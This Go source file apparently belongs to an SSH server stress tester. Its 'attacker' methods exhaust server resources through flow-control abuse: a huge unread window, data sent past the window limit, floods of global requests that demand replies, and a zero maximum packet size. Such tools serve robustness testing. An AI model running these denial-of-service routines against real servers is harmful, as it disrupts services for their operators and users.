package main

import (
	"encoding/binary"
	"errors"
	"math"
	"net"
	"time"

	"golang.org/x/crypto/ssh"
)

// hugeWindow grants 4 GiB, starts the command and never reads again.
func (a *attacker) hugeWindow() error {
	if err := a.openSession(math.MaxUint32, 32768); err != nil {
		return err
	}
	if err := a.exec(a.command); err != nil {
		return err
	}
	for {
		payload, err := a.next()
		if err != nil {
			return err
		}
		if payload[0] == msgChannelFailure {
			return errors.New("the command was refused")
		}
		if payload[0] == msgChannelSuccess {
			return nil
		}
	}
}

// overrun sends data although the window is used up. Window adjustments are not read: whoever keeps to the rules
// waits for them.
func (a *attacker) overrun() error {
	if err := a.openSession(1<<21, 32768); err != nil {
		return err
	}
	if err := a.exec(a.command); err != nil {
		return err
	}
	packet := message(msgChannelData, struct {
		Channel uint32
		Data    []byte
	}{a.remote, make([]byte, 16384)})
	return a.flood(packet, 16384)
}

// replies asks for answers to unknown global requests and does not read them.
func (a *attacker) replies() error {
	packet := message(msgGlobalRequest, struct {
		Kind  string
		Reply bool
	}{"load@example.org", true})
	return a.flood(packet, int64(len(packet)))
}

// flood sends the same message until `bytes` are sent, nothing goes out for a second, or the server hangs up; in the last
// case it returns the server's reason, if one can still be read.
func (a *attacker) flood(packet []byte, counts int64) error {
	for a.sent.Load() < a.bytes {
		if err := a.conn.SetWriteDeadline(time.Now().Add(time.Second)); err != nil {
			return err
		}
		err := a.send(packet)
		var late net.Error
		if errors.As(err, &late) && late.Timeout() {
			return nil
		}
		if err != nil {
			if ending := a.drain(time.Second); ending != nil {
				return ending
			}
			return err
		}
		a.sent.Add(counts)
	}
	return nil
}

// packetZero announces a maximum packet size of 0 (RFC 4254 section 5.1 does not forbid it) and asks for output.
func (a *attacker) packetZero() error {
	if err := a.openSession(math.MaxUint32, 0); err != nil {
		return err
	}
	return a.exec(a.command)
}

// drain reads what the server has sent until it is quiet; nil means that the connection is alive.
func (a *attacker) drain(quiet time.Duration) error {
	// A server that sends without end is alive too.
	for end := time.Now().Add(10 * quiet); time.Now().Before(end); {
		if err := a.conn.SetReadDeadline(time.Now().Add(quiet)); err != nil {
			return err
		}
		payload, err := a.next()
		var late net.Error
		if errors.As(err, &late) && late.Timeout() {
			return nil
		}
		if err != nil {
			return err
		}
		if payload[0] == msgChannelData && len(payload) >= 9 {
			a.received.Add(int64(binary.BigEndian.Uint32(payload[5:])))
		}
		if payload[0] == msgChannelClose {
			var m struct{ Ours uint32 }
			if err := ssh.Unmarshal(payload[1:], &m); err != nil {
				return err
			}
			return errChannelClosed
		}
	}
	return nil
}

var errChannelClosed = errors.New("the server closed the channel")
